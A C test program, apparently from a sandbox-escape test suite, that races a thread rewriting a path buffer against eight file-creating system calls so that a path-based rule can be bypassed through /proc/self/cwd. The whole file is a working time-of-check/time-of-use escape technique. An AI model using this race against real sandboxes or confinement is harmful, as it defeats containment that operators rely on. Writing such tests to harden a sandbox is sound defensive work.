// class: files
// rule: read_write_tmp
// success: a C program's thread rewrites the end of a path during the call
// proof: changed
// timeout: 60
#include "attack.h"
#include <pthread.h>
#include <time.h>

struct open_how {
    uint64_t flags, mode, resolve;
};

static char name[1024], harmless[1024], hostile[1024], source[1024];
static volatile int over;

static void *rewrite(void *unused)
{
    size_t size = strlen(harmless);
    while (!over) {
        memcpy(name, harmless, size);
        for (volatile int i = 0; i < 40; i++) continue;
        memcpy(name, hostile, size);
        for (volatile int i = 0; i < 40; i++) continue;
    }
    return NULL;
}

static int closed(int fd) { return fd < 0 ? -1 : close(fd); }

static void act(int which)
{
    struct open_how how = {O_CREAT | O_WRONLY, 0600, 0};
    FILE *stream;
    switch (which) {
    case 0: closed(open(name, O_CREAT | O_WRONLY, 0600)); break;
    case 1:
        if ((stream = fopen(name, "w"))) fclose(stream);
        break;
    case 2: closed((int)syscall(437, AT_FDCWD, name, &how, sizeof how)); break;
    case 3: mkdir(name, 0700); break;
    case 4: mknod(name, S_IFREG | 0600, 0); break;
    case 5: (void)!symlink("/dev/null", name); break;
    case 6: (void)!link(source, name); break;
    case 7:
        close(creat(source, 0600));
        rename(source, name);
        break;
    }
}

/* Both names have the same length. The harmless one is one component in /proc; the hostile one goes
 * through this process's folder. */
int main(void)
{
    char here[600];
    pthread_t thread;
    struct stat status;
    if (!getcwd(here, sizeof here)) return stopped("getcwd");
    snprintf(source, sizeof source, "%s/source-of-names", here);
    if (chdir(DIR_) != 0) return stopped("chdir");
    snprintf(hostile, sizeof hostile, "/proc/self/cwd/made-by-a-race");
    memset(harmless, 'z', strlen(hostile));
    memcpy(harmless, "/proc/", 6);
    memcpy(name, harmless, sizeof name);
    closed(creat(source, 0600));
    pthread_create(&thread, NULL, rewrite, NULL);
    for (int which = 0; which < 8; which++) {
        struct timespec start, now;
        clock_gettime(CLOCK_MONOTONIC, &start);
        do {
            act(which);
            if (lstat("made-by-a-race", &status) == 0) {
                over = 1;
                pthread_join(thread, NULL);
                return reached();
            }
            clock_gettime(CLOCK_MONOTONIC, &now);
        } while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 <
                 700);
    }
    over = 1;
    pthread_join(thread, NULL);
    errno = EACCES;
    return stopped("race");
}
